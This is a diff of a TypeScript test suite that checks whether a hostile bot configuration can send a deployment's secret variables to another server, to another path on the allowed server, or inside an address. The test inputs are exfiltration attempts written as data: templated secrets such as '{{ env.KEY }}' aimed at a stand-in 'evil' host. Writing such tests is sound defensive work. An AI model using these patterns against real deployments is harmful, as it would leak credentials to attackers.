@@ -203,7 +203,7 @@ describe('a draft of a hostile key with the scope DEPLOY', () => {
     const bot = await shopBot();
     known.handle(({ headers }, response) => response.end(`You sent ${headers['x-key']}`));
     callTool();
-    const { data } = await draft(bot, agent(shopOf(`${known.origin}/carts`)));
+    const { data } = await draft(bot, agent(shopOf(`${known.origin}/orders?all=1`)));
     expect(known.requests.at(-1)?.headers['x-key']).toBe(SECRET);
     expect(data.chat.response).toContain('The tool said');
     expect(JSON.stringify(data)).not.toContain(SECRET);
@@ -211,6 +211,7 @@ describe('a draft of a hostile key with the scope DEPLOY', () => {
 
   test.each<[string, () => string, { name: string; value: string }[]]>([
     ['to another server', () => shopOf(`${evil.origin}/`), []],
+    ['to another path of its server', () => shopOf(`${known.origin}/carts`), []],
     [
       'to a server that its own variable names',
       () => shopOf('{{ env.HOST }}/').replace('"{{', '"http://{{'),
@@ -229,7 +230,7 @@ describe('a draft of a hostile key with the scope DEPLOY', () => {
     ['in an address', () => shopOf(`${evil.origin}/{{ env.KEY }}`).replace('X-Key', 'X-Other'), []],
   ])('cannot send a variable of the deployment %s', async (_where, members, own) => {
     const bot = await shopBot();
-    const requests = evil.requests.length;
+    const requests = evil.requests.length + known.requests.length;
     callTool();
     const { errors } = await draft(bot, agent(members()), { envVars: own });
     expect(errors?.[0]?.extensions).toMatchObject({
@@ -238,7 +239,7 @@ describe('a draft of a hostile key with the scope DEPLOY', () => {
         expect.objectContaining({ code: 'env-new-destination' }),
       ]),
     });
-    expect(evil.requests.length).toBe(requests);
+    expect(evil.requests.length + known.requests.length).toBe(requests);
     expect(await app.prisma.run.count({ where: { botId: bot } })).toBe(0);
   });
 
